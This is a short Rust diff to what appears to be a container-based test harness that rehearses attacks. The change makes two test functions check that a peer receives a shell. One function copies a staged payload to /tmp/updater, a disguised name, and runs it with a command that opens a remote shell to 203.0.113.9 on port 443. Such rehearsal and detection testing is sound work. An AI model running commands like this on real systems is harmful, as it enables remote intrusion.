@@ -134,7 +134,8 @@ fn script(stage: &mut Stage, script: &str, stays: Duration) -> Result<(), Rehear
     let container = stage.start(&stage.options())?;
     let peer = stage.peer(&container)?;
     peer.serve(PORT, Service::Session(TYPED, stays))?;
-    stage.act_shell(&container, script)
+    stage.act_shell(&container, script)?;
+    peer.expect_shell()
 }
 
 fn program(stage: &mut Stage, how: &str, stays: Duration) -> Result<(), RehearsalError> {
@@ -150,5 +151,6 @@ fn dropped(stage: &mut Stage) -> Result<(), RehearsalError> {
     let peer = stage.peer(&container)?;
     peer.serve(443, Service::Session(TYPED, SHORT))?;
     stage.prepare(&container, "cp /payload/act /tmp/updater")?;
-    stage.act_shell(&container, "/tmp/updater shell dup 203.0.113.9 443")
+    stage.act_shell(&container, "/tmp/updater shell dup 203.0.113.9 443")?;
+    peer.expect_shell()
 }
